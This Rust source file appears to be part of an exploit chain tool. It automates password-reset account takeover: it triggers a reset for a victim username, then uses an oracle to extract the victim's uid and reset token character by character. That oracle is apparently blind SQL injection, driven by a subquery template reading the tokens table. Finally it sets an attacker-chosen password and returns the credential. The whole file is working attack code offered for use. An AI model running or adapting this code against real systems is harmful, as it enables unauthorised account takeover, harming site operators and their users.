use tokio::sync::mpsc::UnboundedSender;
use crate::config::ChainConfig;
use crate::errors::ChainError;
use crate::extraction::{BinaryExtractor, IdentityResolver};
use crate::http::{endpoints, Session};
use crate::models::Credential;
use crate::oracle::Oracle;
use crate::pipeline::events::ChainEvent;
use tracing::{debug, info};

/// Subquery selecting the ASCII code of one reset-token character.
pub fn token_template(uid: u32) -> String {
    format!(
        "(select ascii(substr(token, {{pos}}, 1)) from tokens where uid={} limit 1)",
        uid
    )
}

/// Submit a reset token with the configured new password.
pub async fn change_password(session: &Session, config: &ChainConfig, token: &str) -> Result<(), ChainError> {
    let form = [
        ("token", token),
        ("password1", config.new_password.as_str()),
        ("password2", config.new_password.as_str()),
    ];
    let reply = session.post_form(endpoints::RESET_PASSWORD, &form).await?;
    debug!(status = reply.status, "Password change response");

    if reply.contains(&config.markers.password_changed) {
        Ok(())
    } else {
        Err(ChainError::Assertion(format!(
            "reset token rejected (status {})",
            reply.status
        )))
    }
}

/// Password-reset account takeover: request a reset, recover the victim's
/// uid and reset token through the oracle, then spend the token.
pub struct CredentialResetFlow<'a> {
    session: &'a Session,
    oracle: &'a dyn Oracle,
    config: &'a ChainConfig,
    events: Option<UnboundedSender<ChainEvent>>,
}

impl<'a> CredentialResetFlow<'a> {
    pub fn new(session: &'a Session, oracle: &'a dyn Oracle, config: &'a ChainConfig) -> Self {
        Self { session, oracle, config, events: None }
    }

    pub fn with_event_channel(mut self, tx: UnboundedSender<ChainEvent>) -> Self {
        self.events = Some(tx);
        self
    }

    pub async fn request_reset(&self, username: &str) -> Result<(), ChainError> {
        let reply = self.session.post_form(endpoints::FORGOT_PASSWORD, &[("username", username)]).await?;
        debug!(status = reply.status, "Reset request response");

        if reply.contains(&self.config.markers.email_sent) {
            Ok(())
        } else {
            Err(ChainError::Assertion(format!(
                "password reset for '{}' not confirmed (status {})",
                username, reply.status
            )))
        }
    }

    /// Each step depends on the previous one. Nothing is rolled back on
    /// failure: a reset request, once sent, stays pending on the target.
    pub async fn reset_and_takeover(&self, username: &str) -> Result<Credential, ChainError> {
        info!(username, "Requesting password reset");
        self.request_reset(username).await?;
        info!("Reset token created");

        info!("Dumping UID");
        let uid = IdentityResolver::new(self.oracle, self.config.uid_search_bound)
            .resolve(username)
            .await
            .ok_or_else(|| ChainError::SearchExhaustion(format!(
                "no uid below {} for '{}'",
                self.config.uid_search_bound, username
            )))?;
        info!(uid, "UID dumped");

        info!(length = self.config.token_length, "Dumping token");
        let mut extractor = BinaryExtractor::new(self.oracle);
        if let Some(ref tx) = self.events {
            extractor = extractor.with_event_channel(tx.clone());
        }
        let token = extractor
            .extract(&token_template(uid), self.config.token_length)
            .await
            .ok_or_else(|| ChainError::SearchExhaustion(format!(
                "reset token for uid {} could not be extracted",
                uid
            )))?;
        info!(token = %token, probes = self.oracle.probes_sent(), "Token dumped");

        change_password(self.session, self.config, &token).await?;
        info!(password = %self.config.new_password, "Password changed");

        Ok(Credential::new(username, &self.config.new_password))
    }
}
